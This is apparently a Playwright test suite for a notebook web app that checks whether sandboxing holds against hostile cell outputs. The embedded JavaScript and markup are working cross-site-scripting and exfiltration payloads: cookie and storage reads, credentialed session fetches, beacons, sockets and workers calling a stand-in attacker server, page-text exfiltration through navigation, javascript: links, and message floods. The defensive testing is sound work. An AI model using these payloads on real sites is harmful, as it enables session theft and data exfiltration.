"""Outputs that mean harm: whatever they hold, they reach no cookie, no token, no network and nothing of the page."""

import json
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from playwright.sync_api import Browser, Dialog, expect

from browser.outputs import data, frame_of, look_at, notebook, outputs_of
from browser.people import PersonFactory, Studium, newcomer

# Each attempt answers what it got; what it throws is what stopped it.
ATTEMPTS = """
const attempts = {
  cookie: () => document.cookie,
  storage: () => localStorage.length,
  parent: () => parent.document.body.innerHTML,
  top: () => top.document.title,
  siblings: () => {
    const reached = Array.from({ length: parent.length }, (_, index) => parent[index]).filter((frame) => {
      try { return frame !== window && frame.document; } catch { return false; }
    });
    if (reached.length === 0) throw new Error("none");
    return reached.length;
  },
  navigate: () => { top.location = "EVIL/navigated"; throw new Error("no throw, and no navigation"); },
  open: () => { if (open("EVIL/opened") === null) throw new Error("not opened"); return "opened"; },
  origin: () => { if (origin === "null") throw new Error("opaque"); return origin; },
  session: async () => (await fetch("HUB/api/session", { credentials: "include", mode: "no-cors" })).type,
  beacon: async () => (await fetch("EVIL/beacon", { mode: "no-cors" })).type,
  socket: () => new Promise((resolve, reject) => {
    const socket = new WebSocket("EVIL/socket".replace("http", "ws"));
    socket.onopen = () => resolve("open");
    socket.onerror = () => reject(new Error("refused"));
  }),
  worker: () => new Promise((resolve, reject) => {
    const code = "fetch('EVIL/worker').then(() => postMessage('sent'), () => postMessage(''))";
    const worker = new Worker(URL.createObjectURL(new Blob([code])));
    worker.onmessage = ({ data }) => (data ? resolve(data) : reject(new Error("refused")));
    worker.onerror = () => reject(new Error("no worker"));
  }),
  alert: () => { alert("hello"); throw new Error("nothing was shown"); },
};
document.body.insertAdjacentHTML("beforeend", `
  <img src="EVIL/image"><link rel="stylesheet" href="EVIL/style"><link rel="prefetch" href="EVIL/prefetch">
  <iframe src="EVIL/frame"></iframe><iframe srcdoc="<script>parent.parent.document.title = 'taken'<\\/script>"></iframe>
  <form id="form" action="EVIL/form" target="_top"><input name="a"></form>`);
document.getElementById("form").submit();
for (const message of [
  { type: "height", height: 1e12 }, { type: "link", url: "javascript:parent.taken = 1" },
  { type: "comm", frame: { kind: "comm_msg", content: { comm_id: "x", data: {} } }, buffers: [] },
  { type: "script", name: "../../evil" }, { type: "picture", request: 1, picture: "javascript:1" }, null, 7,
]) parent.postMessage(message, "*");
(async () => {
  const got = {};
  for (const [name, attempt] of Object.entries(attempts)) {
    try { got[name] = await attempt(); } catch (error) { /* stopped */ }
  }
  const answer = document.createElement("output");
  answer.textContent = JSON.stringify(got);
  element_or_body().append(answer);
})();
"""

# How long the page did nothing until the frame had counted to its end, in milliseconds.
LONGEST_PAUSE = """
() => new Promise((resolve) => {
  let [last, longest] = [performance.now(), 0];
  const timer = setInterval(() => {
    longest = Math.max(longest, performance.now() - last);
    last = performance.now();
  }, 50);
  addEventListener("message", ({ data }) => {
    if (data !== 1) return;
    clearInterval(timer);
    resolve(longest);
  });
})
"""


class _Evil(BaseHTTPRequestHandler):
    """A site elsewhere that notes who calls."""

    calls: list[str]

    def do_GET(self) -> None:
        self.calls.append(self.path)
        self.send_response(200)
        self.end_headers()

    do_POST = do_GET

    def log_message(self, *_: object) -> None:
        pass


@pytest.fixture
def evil() -> Iterator[tuple[str, list[str]]]:
    calls: list[str] = []
    handler = type("Handler", (_Evil,), {"calls": calls})
    with ThreadingHTTPServer(("127.0.0.1", 0), handler) as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        yield f"http://127.0.0.1:{server.server_port}", calls
        server.shutdown()
        thread.join()


def test_outputs_cannot_reach_out(person: PersonFactory, evil: tuple[str, list[str]]) -> None:
    site, calls = evil
    ada = person("Ada Lovelace")
    project = ada.new_project("Careful")

    def script(body: str) -> str:
        return ATTEMPTS.replace("EVIL", site).replace("HUB", ada.studium.url).replace("element_or_body()", body)

    in_html = f"<script>{script('document.body')}</script>"
    on_page = (
        f"<img src=x onerror='window.taken = 1'><img src='{site}/picture'>"
        f"<svg onload='window.taken = 1'><image href='{site}/svg'/></svg>"
        f"<style>body {{ background: url({site}/background) }}</style><script>window.taken = 1</script>"
        "<a href='javascript:window.taken = 1' class='button primary' style='position: fixed; inset: 0'>a trap</a>"
        "<form action='/api/session'><button id=root>x</button></form>"
    )
    svg = f"<svg xmlns='http://www.w3.org/2000/svg' width='99' height='99'><script>parent.taken = 1</script>\
<image href='{site}/inner' width='9' height='9'/></svg>"
    cells = {
        "html": [data(text__html=in_html)],
        "script": [data(application__javascript=script("element"))],
        "refresh": [data(text__html=f'<meta http-equiv="refresh" content="0;url={site}/refresh"><svg></svg>')],
        "leave": [data(text__html=f"<script>location = '{site}/leave?' + document.body.innerText</script>")],
        "home": [data(text__html=f"<script>location = '{ada.studium.url}/api/session'</script>")],
        "markdown": [data(text__markdown=on_page + "\n\nlast words")],
        "latex": [data(text__latex=rf"$\href{{javascript:window.taken = 1}}{{x}} \includegraphics{{{site}/latex}}$")],
        "svg": [data(**{"image__svg+xml": svg})],
        "plotly": [
            data(
                **{
                    "application__vnd.plotly.v1+json": {
                        "data": [{"y": [1, 2], "text": ["<a href='javascript:top.taken=1'>x</a>"] * 2, "mode": "text"}],
                        "layout": {"title": {"text": f"<b>Hostile</b><img src={site}/plotly>"}},
                    }
                }
            )
        ],
        "vega": [
            data(
                **{
                    "application__vnd.vegalite.v5+json": {
                        "data": {"url": f"{site}/vega.csv"},
                        "mark": "bar",
                        "title": "From elsewhere",
                    }
                }
            )
        ],
        "stream": [
            {
                "output_type": "stream",
                "name": "stdout",
                "text": "\x1b]8;;javascript:window.taken=1\x07trap\x1b]8;;\x07 <b onclick=1>bold</b>\n",
            }
        ],
    }
    ada.write(project, "hostile.ipynb", notebook({name: ("", outputs) for name, outputs in cells.items()}))
    dialogs: list[str] = []

    def dismiss(dialog: Dialog) -> None:
        dialogs.append(dialog.message)
        dialog.dismiss()

    ada.page.on("dialog", dismiss)
    look_at(ada, project, "hostile.ipynb")
    address, title = ada.page.url, ada.page.title()
    pages = len(ada.context.pages)

    for name in ("html", "script"):
        got = frame_of(ada, name).locator("output")
        expect(got).to_be_attached(timeout=20_000)
        assert json.loads(got.inner_text()) == {}, name
        height = outputs_of(ada, name).locator("iframe").evaluate("frame => frame.clientHeight")
        assert height <= 2_000
    for name in ("refresh", "leave", "home"):
        expect(outputs_of(ada, name).locator("iframe")).to_be_attached()
    markdown = outputs_of(ada, "markdown")
    expect(markdown.get_by_text("last words")).to_be_visible()
    expect(
        markdown.locator(".markdown").locator("script, style, form, svg, [onerror], [style], .button.primary, #root")
    ).to_have_count(0)
    markdown.get_by_text("a trap").click()
    expect(outputs_of(ada, "latex")).to_be_visible()
    expect(outputs_of(ada, "svg").get_by_role("img")).to_be_visible()
    expect(frame_of(ada, "plotly").locator(".gtitle")).to_contain_text("Hostile", timeout=20_000)
    expect(frame_of(ada, "vega").locator("main")).to_contain_text("asks for something from 127.0.0.1")
    stream = outputs_of(ada, "stream")
    expect(stream.get_by_text("<b onclick=1>bold</b>")).to_be_visible()
    expect(stream.get_by_role("link")).to_have_count(0)

    # A second look at all that could have been done meanwhile.
    assert ada.page.url == address
    assert ada.page.title() == title
    assert ada.page.evaluate("window.taken") is None
    assert len(ada.context.pages) == pages
    assert dialogs == []
    assert calls == []
    # The page still works, for the same person.
    expect(ada.save_state()).to_contain_text("Saved")


def test_a_frame_that_floods_the_page_is_stopped(person: PersonFactory) -> None:
    ada = person("Ada Lovelace")
    project = ada.new_project("Careful")
    flood = (
        "setInterval(() => { for (let i = 0; i < 500; i++) parent.postMessage({ type: 'height', height: i }, '*') }, 5)"
    )
    cells = {
        "flood": ("", [data(text__html=f"<p>flooding</p><script>{flood}</script>")]),
        "calm": ("", [data(text__html="<p style='color: teal'>calm</p>")]),
    }
    ada.write(project, "flood.ipynb", notebook(cells))
    look_at(ada, project, "flood.ipynb")
    expect(outputs_of(ada, "flood")).to_contain_text("This output was stopped", timeout=20_000)
    expect(outputs_of(ada, "flood").locator("iframe")).to_have_count(0)
    expect(frame_of(ada, "calm").get_by_text("calm")).to_be_visible()
    outputs_of(ada, "flood").get_by_role("button", name="Show it again").click()
    expect(outputs_of(ada, "flood")).to_contain_text("This output was stopped", timeout=20_000)


def test_a_script_without_end_does_not_hold_up_the_page(studium: Studium, browser: Browser) -> None:
    # A trace would ask every frame for what it shows, and wait for the one that does not answer.
    context = browser.new_context()
    try:
        ada = newcomer(studium, context, "Ada Lovelace", "ada-of-the-loop@example.org")
        project = ada.new_project("Careful")
        loop = """
            setTimeout(() => {
              const end = Date.now() + 10_000;
              while (Date.now() < end);
              setInterval(() => parent.postMessage(1, "*"), 500);
            })"""
        ada.write(project, "loop.ipynb", notebook({"loop": ("", [data(text__html=f"<script>{loop}</script>")])}))
        look_at(ada, project, "loop.ipynb")
        assert ada.page.evaluate(LONGEST_PAUSE) < 5_000
    finally:
        context.close()
